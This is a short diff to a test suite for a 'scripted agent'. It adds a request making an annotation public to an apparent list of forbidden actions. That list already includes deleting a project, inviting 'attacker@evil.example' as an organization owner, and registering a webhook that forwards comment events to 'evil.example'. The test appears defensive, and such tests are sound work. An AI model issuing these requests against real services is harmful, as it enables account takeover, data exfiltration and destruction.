@@ -164,6 +164,7 @@ describe('a scripted agent', () => {
     for (const [method, path, body] of [
       ['DELETE', `/projects/${projectId}`, undefined],
       ['DELETE', `/annotations/${trapId}`, undefined],
+      ['PUT', `/annotations/${trapId}/visibility`, { visibility: 'public' }],
       ['POST', `/organizations/${organizationId}/invitations`, { email: 'attacker@evil.example', role: 'owner' }],
       ['POST', '/v1/webhooks', { url: 'https://evil.example/', events: ['comment.created'], projectId }],
       ['GET', `/organizations/${organizationId}/members`, undefined],
